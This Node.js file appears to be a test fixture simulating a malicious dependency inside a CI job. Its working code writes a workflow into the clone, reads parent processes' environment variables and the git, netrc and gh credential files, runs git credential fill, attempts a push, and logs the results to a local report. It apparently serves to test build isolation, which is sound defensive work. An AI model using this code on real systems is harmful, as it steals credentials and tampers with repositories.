// A dependency that attacks the job in which it is loaded. It writes a workflow into the clone, looks for a
// token and for git's credentials, tries to push, and appends what it found to a file.

const { execFileSync } = require("node:child_process");
const { appendFileSync, mkdirSync, readFileSync, writeFileSync } = require("node:fs");
const { join } = require("node:path");

/**
 * Where the clone is, where to write, and the process at which the search of the parents' environments ends.
 *
 * @type {{ clone: string, report: string, runner: number }}
 */
const { clone, report, runner } = JSON.parse(
  readFileSync(join(__dirname, "malicious-dependency.json"), "utf8"),
);

mkdirSync(join(clone, ".github/workflows"), { recursive: true });
writeFileSync(join(clone, ".github/workflows/own.yml"), "on: push\n");

/** @type {string[]} */
const environments = [];
for (let pid = process.pid; pid > 1 && pid !== runner;) {
  environments.push(attempt(() => readFileSync(`/proc/${pid}/environ`, "utf8")));
  const status = attempt(() => readFileSync(`/proc/${pid}/status`, "utf8"));
  pid = Number(/^PPid:\s+(\d+)$/mu.exec(status)?.[1] ?? 0);
}
const homes = environments.flatMap((text) => /(?:^|\0)HOME=([^\0]+)/u.exec(text)?.[1] ?? []);
const files = [".git-credentials", ".netrc", ".config/gh/hosts.yml"].flatMap((file) =>
  homes.map((home) => attempt(() => readFileSync(join(home, file), "utf8"))),
);
const findings = {
  environments: [JSON.stringify(process.env), ...environments],
  files,
  configuration: git("", "config", "--list"),
  credential: git("protocol=https\nhost=github.com\n\n", "credential", "fill"),
  push: git("", "push", "origin", "HEAD:refs/heads/own"),
};
appendFileSync(report, `${JSON.stringify(findings)}\n`);

/**
 * @param {string} input
 * @param {string[]} args
 */
function git(input, ...args) {
  const env = { ...process.env, GIT_TERMINAL_PROMPT: "0" };
  return attempt(() =>
    execFileSync("git", ["-C", clone, ...args], { input, stdio: "pipe", encoding: "utf8", env }),
  );
}

/** @param {() => string} work */
function attempt(work) {
  try {
    return work();
  } catch (error) {
    return String(error);
  }
}
